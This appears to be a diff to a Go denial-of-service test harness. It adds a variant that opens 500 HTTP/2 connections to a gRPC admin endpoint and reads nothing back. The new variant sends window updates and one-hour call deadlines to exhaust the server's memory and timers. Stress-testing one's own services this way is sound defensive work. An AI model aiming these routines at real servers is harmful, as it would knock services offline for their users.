@@ -6,6 +6,7 @@ import (
 	"crypto/tls"
 	"io"
 	"net"
+	"slices"
 	"strings"
 	"time"
 
@@ -56,6 +57,11 @@ var administered = withTLS([]attack{
 	{
 		"admin-windows", "500 connections that read nothing and send windows to --admin", "http",
 		each(500, adminWindows),
+	},
+	{
+		"admin-timed",
+		"500 connections that read nothing and send windows to --admin after calls that may take " +
+			"an hour", "http", each(500, adminTimed),
 	},
 	{
 		"admin-settings", "500 connections that send settings to --admin and read nothing", "http",
@@ -249,32 +255,38 @@ func adminPages(ctx context.Context, v *victim) (sent int) {
 }
 
 func adminPings(ctx context.Context, v *victim) int {
-	return control(ctx, v, 0, func(c *adminConn) error { return c.WritePing(false, [8]byte{1}) })
+	return control(ctx, v, nil, func(c *adminConn) error { return c.WritePing(false, [8]byte{1}) })
 }
 
 func adminSettings(ctx context.Context, v *victim) int {
-	return control(ctx, v, 0, func(c *adminConn) error { return c.WriteSettings() })
+	return control(ctx, v, nil, func(c *adminConn) error { return c.WriteSettings() })
 }
 
 // adminWindows asks first for more than has room in sockets: gRPC keeps windows until it has
 // written the answers.
-func adminWindows(ctx context.Context, v *victim) int {
-	return control(ctx, v, 4*perConn, func(c *adminConn) error { return c.WriteWindowUpdate(0, 1) })
+func adminWindows(ctx context.Context, v *victim) int { return control(ctx, v, asCall, windows) }
+
+// adminTimed does so with calls that have deadlines: gRPC has a timer for each.
+func adminTimed(ctx context.Context, v *victim) int {
+	timed := append(slices.Clone(asCall), hpack.HeaderField{Name: "grpc-timeout", Value: "1H"})
+	return control(ctx, v, timed, windows)
 }
 
-// control opens calls, sends 64 frames at a time that are no calls, and reads nothing. The
-// connection stays open while the node takes in nothing more.
+func windows(c *adminConn) error { return c.WriteWindowUpdate(0, 1) }
+
+// control opens calls with these fields, if there are any, sends 64 frames at a time that are no
+// calls, and reads nothing. The connection stays open while the node takes in nothing more.
 func control(
-	ctx context.Context, v *victim, calls int, write func(c *adminConn) error,
+	ctx context.Context, v *victim, fields []hpack.HeaderField, write func(c *adminConn) error,
 ) (sent int) {
 	c := dialAdmin(ctx, v, false)
 	if c == nil {
 		return 0
 	}
 	defer c.Close()
-	for i := range calls {
-		if c.WriteHeaders(http2.HeadersFrameParam{
-			StreamID: uint32(2*i + 1), BlockFragment: c.fields("POST", "/none", asCall...),
+	for i := range 4 * perConn {
+		if fields != nil && c.WriteHeaders(http2.HeadersFrameParam{
+			StreamID: uint32(2*i + 1), BlockFragment: c.fields("POST", "/none", fields...),
 			EndHeaders: true, EndStream: true,
 		}) != nil {
 			return sent
